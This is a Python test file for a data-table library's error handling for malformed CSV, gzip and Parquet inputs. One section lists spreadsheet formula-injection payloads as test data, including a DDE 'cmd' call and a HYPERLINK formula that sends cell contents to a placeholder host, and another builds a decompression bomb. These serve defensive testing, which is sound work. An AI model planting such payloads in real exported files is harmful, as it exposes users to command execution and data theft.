"""Tables that are not what they should be: every error is one of this package, and says what to do."""

import csv
import gzip
import re
import sys
import tracemalloc
import zlib
from datetime import datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import narwhals as nw
import numpy as np
import pandas as pd
import polars as pl
import pytest

import manyarms as ma
from manyarms.errors import ArmsError, ObservationError, ParameterError
from manyarms.runtime.foreign import read_parquet
from manyarms.sheets.csvfiles import write_csv
from manyarms.sheets.reading import read_sheet
from manyarms.space.pool import Pool


def written(path, content):
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("a,b\n1,2\n3\n4,5,6\n", r"names 2 columns, got 3 fields in line 4; quote"),
        ('a;b\n1;"x\ny"\n4;5;6;7\n', r"names 2 columns, got 4 fields in line 4"),
        (b"name,x\ncaf\x81,1\n", r"must be text in UTF-8 or Windows-1252, got other bytes; save"),
        (
            b"PK\x03\x04" + bytes(range(256)),
            r"is a workbook or another archive; give a workbook a name that ends in .xlsx",
        ),
        ("", r"empty CSV; check what it holds"),
    ],
)
def test_broken_csv_files(tmp_path, content, message):
    with pytest.raises(ArmsError, match=message):
        Pool.from_csv(written(tmp_path / "table.csv", content))


def test_gzipped_csv_files_are_read_by_their_own_separator(tmp_path):
    path = written(tmp_path / "table.csv.gz", gzip.compress(b"name;x;y\na;1;2\nb;2;3\n"))
    assert Pool.from_csv(path, id="name").columns == {"x": "integer", "y": "integer"}


@pytest.mark.parametrize("name", ["table.parquet", "table.PARQUET", "table.pq"])
def test_parquet_files_by_any_ending(tmp_path, name):
    pl.DataFrame({"x": [1, 2]}).write_parquet(tmp_path / name)
    optimizer = ma.Optimizer(str(tmp_path / name))
    optimizer.add(tmp_path / name)
    assert len(optimizer.pool) == 4


@pytest.mark.parametrize("path", [None, b"table.csv", 3])
def test_paths_are_strings(path):
    for read in (Pool.from_csv, Pool.from_parquet, Pool.from_array([[1.0], [2.0]]).read):
        with pytest.raises(ArmsError, match="must be a string or a Path, got"):
            read(path)


@pytest.mark.parametrize(
    "table", [None, 3, [[1, 2], [3, 4]], {"a": [1, 2]}, pd.Series([1, 2]), pl.Series([1, 2])]
)
def test_what_is_no_table(table):
    with pytest.raises(
        ArmsError,
        match=r"cannot read a table from \w+; give a data frame, a list of dicts, an array, or the path",
    ):
        ma.Optimizer(table)


@pytest.mark.parametrize(
    ("frame", "message"),
    [
        (pd.DataFrame({"x": [1, 2], "a": [1j, 2]}), "column 'a'"),
        (
            pd.DataFrame([[1, 2], [3, 4]], columns=["a", "a"]),
            "unique column names, got: - 'a' 2 times",
        ),
        (pd.DataFrame({"a": pd.cut([1, 2, 3], 2)}), "column 'a' must hold numbers, .* 'ignore'"),
        (
            pd.DataFrame({"a": pd.period_range("2020", periods=3, freq="M")}),
            "column 'a' must hold numbers",
        ),
        (pl.scan_csv("there-is-none.csv"), "cannot read a table from LazyFrame: "),
        (
            pl.LazyFrame({"x": [1]}).select("y"),
            r"unable to find column \"y\"; valid columns: \[\"x\"\]; correct it",
        ),
    ],
)
def test_frames_that_cannot_be_read(frame, message):
    with pytest.raises(ArmsError, match=message) as caught:
        Pool.from_frame(frame)
    assert "\n" not in str(caught.value)


def test_a_column_of_an_unknown_type_can_be_left_out():
    frame = pd.DataFrame({"x": [1, 2, 3], "when": pd.period_range("2020", periods=3, freq="M")})
    assert Pool.from_frame(frame, columns={"when": "ignore"}).columns == {
        "x": "integer",
        "when": "ignore",
    }
    for kind in ("categorical", "text"):
        with pytest.raises(ArmsError, match=r"cannot be .*'ignore'\} or bits"):
            Pool.from_frame(frame, columns={"when": kind})


def test_an_index_is_no_column():
    frame = pd.DataFrame({"x": [1, 2]}, index=pd.Index(["a", "b"], name="name"))
    with pytest.raises(
        ParameterError, match="'name', which is the index and left out; call reset_index"
    ):
        Pool.from_frame(frame, id="name")
    assert Pool.from_frame(frame.reset_index(), id="name").ids.tolist() == ["a", "b"]
    assert Pool.from_frame(frame).ids.tolist() == [0, 1]


def test_categories_that_are_numbers_stay_categories():
    frame = pd.DataFrame(
        {"i": pd.Categorical([1, 2, 3]), "machine": pd.Categorical([3, 5, 3]), "y": [1.0, 2.0, 3.0]}
    )
    pool = Pool.from_frame(frame, id="i")
    assert pool.columns == {"machine": "categorical", "y": "continuous"}
    assert pool.row(2) == {"machine": 5, "y": 2.0}
    assert pool.add(frame.assign(i=[4, 5, 6])).columns == pool.columns
    assert Pool.from_frame(frame, columns={"machine": "integer"}).columns["machine"] == "integer"


@pytest.fixture(params=["as installed", "without pyarrow"])
def arrow(request, monkeypatch):
    """What polars does with columns of pandas where pyarrow is there, and where it is not."""
    if request.param == "as installed":
        return
    to_polars = nw.Series.to_polars

    def refusing(series):
        if series.implementation.is_pandas():
            raise ImportError("pyarrow is required")
        return to_polars(series)

    monkeypatch.setattr(nw.Series, "to_polars", refusing)


BERLIN = datetime(2026, 7, 1, 8, tzinfo=ZoneInfo("Europe/Berlin"))
DATES = (pd.Timestamp(2026, 7, 1), pd.Timestamp(2026, 7, 2), None)


@pytest.mark.parametrize(
    ("column", "kind", "values"),
    [
        (["THF", "DMF", None], "categorical", ["THF", "DMF", None]),
        (pd.Series(["THF", np.nan, pd.NA], dtype=object), "categorical", ["THF", None, None]),
        (pd.array(["THF", None, "DMF"], dtype="string"), "categorical", ["THF", None, "DMF"]),
        (pd.Categorical(["THF", None, "DMF"]), "categorical", ["THF", None, "DMF"]),
        (pd.Categorical([3, None, 1]), "categorical", [3, None, 1]),
        (pd.Categorical([True, None, False]), "boolean", [True, None, False]),
        (pd.array([7, None, 9], dtype="Int64"), "integer", [7, None, 9]),
        (pd.array([7, None, 9], dtype="UInt8"), "integer", [7, None, 9]),
        (pd.array([0.5, None, 1.25], dtype="Float64"), "continuous", [0.5, None, 1.25]),
        (np.array([0.5, np.nan, 1.25]), "continuous", [0.5, None, 1.25]),
        (np.array([0.5, 1.5, 1.25], dtype=np.float16), "continuous", [0.5, 1.5, 1.25]),
        (pd.array([True, None, False], dtype="boolean"), "boolean", [True, None, False]),
        ([True, False, None], "boolean", [True, False, None]),
        ([Decimal("0.5"), Decimal("1.25"), None], "continuous", [0.5, 1.25, None]),
        ([[0, 1, 1], [1, 0, 0], [1, 1, 1]], "bits", [[0, 1, 1], [1, 0, 0], [1, 1, 1]]),
        (pd.Series(DATES), "ignore", [DATES[0], DATES[1], None]),
        (pd.Series(DATES).astype("datetime64[s]"), "ignore", [DATES[0], DATES[1], None]),
        (pd.Series(DATES).dt.date, "ignore", [DATES[0].date(), DATES[1].date(), None]),
        (pd.Series([BERLIN, None, BERLIN]), "ignore", [BERLIN, None, BERLIN]),
        (pd.Series([BERLIN, None, BERLIN]).astype("datetime64[ns, UTC]"), "ignore", [BERLIN, None, BERLIN]),
        (pd.to_timedelta([90, None, 60], unit="s"), "ignore", [timedelta(seconds=90), None, timedelta(seconds=60)]),
    ],
)  # fmt: skip
def test_columns_of_pandas(arrow, column, kind, values):
    frame = pd.DataFrame({"id": ["p", "q", "r"], "x": [1, 2, 3], "c": column})
    if kind == "ignore":
        with pytest.raises(ArmsError, match="column 'c' must not hold dates or times"):
            Pool.from_frame(frame, id="id", missing="category")
    declared = {"c": "ignore"} if kind == "ignore" else None
    of_numbers = kind in ("integer", "continuous")
    missing = "drop" if of_numbers else "category"
    pool = Pool.from_frame(frame, id="id", missing=missing, columns=declared)
    assert pool.columns == {"x": "integer", "c": kind}
    rows = dict(zip(pool.ids, pool.rows(pool.ids), strict=True))
    read = [rows[id]["c"] if id in rows else None for id in ("p", "q", "r")]
    assert read == values


def test_ordered_categories_of_pandas(arrow):
    sizes = pd.Categorical(["large", None, "small"], categories=["small", "mid", "large"], ordered=True)  # fmt: skip
    pool = Pool.from_frame(pd.DataFrame({"size": sizes, "x": [1, 2, 3]}), missing="drop")
    assert pool.features[0].levels == ("small", "mid", "large")
    assert pool.X.tolist() == [[1, 0], [0, 1]]


def test_a_column_of_several_types(arrow):
    frame = pd.DataFrame({"x": [1, 2], "a": [1, "b"]})
    with pytest.raises(ArmsError, match=r"column 'a'.*; (correct it|convert them first)") as caught:
        Pool.from_frame(frame)
    assert "\n" not in str(caught.value)


def test_columns_without_names(arrow):
    pool = Pool.from_frame(pd.DataFrame([[1, "THF"], [2, "DMF"], [3, "THF"]]))
    assert pool.rows([0, 1]) == [{"0": 1, "1": "THF"}, {"0": 2, "1": "DMF"}]


def test_names_that_become_equal(arrow):
    with pytest.raises(ArmsError, match="'1' has more than one occurrence; correct it"):
        Pool.from_frame(pd.DataFrame({1: ["a", "b"], "1": ["c", "d"]}))


def test_objects_cannot_be_stored(path):
    pool = Pool.from_dicts([{"x": 1, "who": {1}}, {"x": 2, "who": {2}}], columns={"who": "ignore"})
    with pytest.raises(ArmsError, match="column 'who' holds objects, which cannot be stored"):
        ma.Study.create(path, pool)
    assert not path.exists()


def test_rows_of_an_array_that_miss_a_value_can_be_left_out():
    X = np.array([[1.0, 2.0], [np.nan, 1.0], [3.0, 4.0]])
    with pytest.raises(ArmsError, match="missing='drop'"):
        Pool.from_array(X)
    assert Pool.from_array(X, missing="drop").ids.tolist() == [0, 2]
    assert Pool.from_array(X, ids=["a", "b", "c"], missing="drop").ids.tolist() == ["a", "c"]


def test_a_column_that_appears_later():
    pool = Pool.from_dicts([{"x": 1}, {"x": 2}])
    with pytest.raises(
        ArmsError, match="unexpected 'z'; give the same columns, or make a new pool of all rows"
    ):
        pool.add([{"x": 3, "z": 1}])


def test_a_noise_that_is_no_number_is_not_called_a_value():
    optimizer = ma.Optimizer(np.arange(4.0)[:, None])
    for noise in ("0.1", [0.1, "high"], np.nan):
        with pytest.raises(
            ObservationError, match=r"^noise must be standard deviations, finite numbers, got"
        ):
            optimizer.tell([0, 1], [1.0, 2.0], noise=noise)
    with pytest.raises(ObservationError, match="FAILED"):
        optimizer.tell(0, pd.NA)


def test_callbacks_that_are_none():
    with pytest.raises(ParameterError, match="callbacks must be functions"):
        ma.maximize(lambda row: 1.0, np.eye(3), budget=3, callbacks=3)


# Files that are damaged, or hold more than is good


def test_gzipped_files_that_are_damaged(tmp_path):
    whole = gzip.compress(b"name,x\n" + b"".join(b"n%d,%d\n" % (i, i) for i in range(1000)))
    flipped = bytearray(whole)
    flipped[len(whole) // 2] ^= 0xFF
    for content in (whole[:100], whole[:-4], whole[:3], whole[: len(whole) // 2], bytes(flipped)):
        with pytest.raises(ArmsError, match=r"damaged, or a part of a gzipped file .*; copy"):
            Pool.from_csv(written(tmp_path / "table.csv.gz", content))


@pytest.mark.slow
def test_a_gzipped_file_that_holds_too_much_is_refused_before_it_is_unpacked(tmp_path):
    piece = zlib.compressobj(wbits=31)
    zeros = bytes(1 << 20)
    content = b"".join(piece.compress(zeros) for _ in range(1025)) + piece.flush()
    path = written(tmp_path / "table.csv.gz", content)
    tracemalloc.start()
    with pytest.raises(ArmsError, match=r"more than 6\d,\d{3},\d{3} bytes, .* unpack it first"):
        Pool.from_csv(path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 50e6


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (bytes.fromhex("28b52ffd0458"), "compressed with zstd; unpack it first"),
        (zlib.compress(b"a,b\n1,2\n"), "compressed with zlib; unpack it first"),
        (b"PAR1", "a Parquet file; give it a name that ends in .parquet"),
    ],
)
def test_files_that_are_packed_otherwise(tmp_path, content, message):
    with pytest.raises(ArmsError, match=message):
        Pool.from_csv(written(tmp_path / "table.csv", content))


@pytest.fixture(scope="module")
def parquet(tmp_path_factory):
    path = tmp_path_factory.mktemp("parquet") / "table.parquet"
    pl.DataFrame({"x": range(300), "c": ["a", "b", "c"] * 100}).write_parquet(path)
    return path.read_bytes()


def test_parquet_files_that_are_no_such_files(tmp_path, parquet):
    path = tmp_path / "table.parquet"
    longer = parquet[:-8] + (2**31).to_bytes(4, "little") + b"PAR1"
    for content in (b"", b"PAR1", b"PAR1" * 2, parquet[:-1], parquet[:100], b"x" + parquet, longer):
        written(path, content)
        for read in (Pool.from_parquet, lambda path: ma.BKB(str(path), ma.kernels.RBF(1.0))):
            with pytest.raises(ArmsError, match="no Parquet file, or a part of one; write or copy"):
                read(path)
    with pytest.raises(ArmsError, match="it is encrypted"):
        Pool.from_parquet(written(path, b"PARE" + bytes(20) + b"PARE"))


def test_parquet_files_that_are_damaged_inside(tmp_path, parquet):
    footer = len(parquet) - 8 - int.from_bytes(parquet[-8:-4], "little")
    for start in (footer, footer + 20):
        damaged = parquet[:start] + b"\xff" * 16 + parquet[start + 16 :]
        with pytest.raises(ArmsError, match=r"cannot read .*table.parquet: "):
            Pool.from_parquet(written(tmp_path / "table.parquet", damaged))


def test_what_ends_the_reader_of_a_parquet_file_is_an_error_here(tmp_path, parquet, monkeypatch):
    path = written(tmp_path / "table.parquet", parquet)
    killed = tmp_path / "python"
    killed.write_text("#!/bin/sh\nkill -ABRT $$\n")
    killed.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(killed))
    with pytest.raises(ArmsError, match=r"its reader was ended \(code -6\), as damaged files do"):
        Pool.from_parquet(path)
    monkeypatch.setattr(sys, "executable", str(tmp_path / "nothing"))
    with pytest.raises(ArmsError, match="no other process could be started"):
        Pool.from_parquet(path)


def test_types_of_parquet_columns_are_kept(tmp_path):
    frame = pl.DataFrame(
        {
            "enum": pl.Series(["b", "a"], dtype=pl.Enum(["b", "a"])),
            "category": pl.Series(["x", None], dtype=pl.Categorical),
            "list": [[1, 2], []],
            "bits": pl.Series([[0, 1], [1, 0]], dtype=pl.Array(pl.UInt8, 2)),
            "small": pl.Series([1, 2], dtype=pl.Int8),
            "decimal": [Decimal("1.5"), None],
            "time": [datetime(2026, 1, 2), None],
            "nothing": [None, None],
        }
    )
    frame.write_parquet(tmp_path / "table.parquet")
    found = read_parquet(tmp_path / "table.parquet")
    assert found.schema == frame.schema
    assert found.equals(frame)


# Text that a spreadsheet would run

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-x",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=1",
    "''-1",
    "'quoted'",
    "'",
    "-5",
    "+1e3",
    "plain",
    '=HYPERLINK("http://x.y/?" & A1, "a,b;c")',
    "=\n=",
]


@pytest.mark.parametrize("decimal", [".", ","])
def test_no_text_that_is_written_is_a_formula_and_all_is_read_back(tmp_path, decimal):
    frame = pl.DataFrame(
        {
            "id": [f"{text}{i}" for i, text in enumerate(FORMULAS)],
            "=name": FORMULAS,
            "'@name": FORMULAS[::-1],
            "number": [-1.5 * i for i in range(len(FORMULAS))],
        }
    )
    path = tmp_path / "table.csv"
    write_csv(frame, path, ";" if decimal == "," else ",", decimal)
    with path.open(encoding="utf-8-sig", newline="") as file:
        header, *rows = csv.reader(file, delimiter=";" if decimal == "," else ",")
    assert header == ["id", "'=name", "''@name", "number"]
    for cells in rows:
        for cell in cells[:3]:
            assert cell[0] not in "=+-@\t\r" or re.fullmatch(r"[+-][\d.e]+", cell)
        assert re.fullmatch(r"-?\d+[.,]\d+", cells[3])
    names = {"id", "=name", "'@name"}
    assert read_sheet(path, "id", names, names, decimal).frame.equals(frame)
    types = {"=name": "text", "'@name": "categorical"}
    pool = Pool.from_csv(path, id="id", columns=types, decimal=decimal)
    assert [row["=name"] for row in pool.rows(pool.ids)] == FORMULAS
    assert pool.columns["number"] == "continuous"


def test_names_that_differ_by_the_apostrophe_only(tmp_path):
    path = written(tmp_path / "table.csv", "=a,'=a\n1,2\n3,4\n")
    with pytest.raises(ArmsError, match="must name its columns differently, also without"):
        Pool.from_csv(path)


def test_what_is_wrong_with_a_csv_file_is_found_in_the_file(tmp_path):
    path = tmp_path / "t.csv"
    for text, message in [
        (b"x,y\n1,2\n3,\x81\n", "must be text in UTF-8 or Windows-1252, got other bytes; save it"),
        (b"x,y\n1,2\n3,4,5\n", "names 2 columns, got 3 fields in line 3; quote fields"),
        (b'x,y\n1,"' + b"a\n" * 99_999, "check what it holds, or read it .* Pool.from_frame"),
    ]:
        path.write_bytes(text)
        with pytest.raises(ArmsError, match=message):
            Pool.from_csv(path)
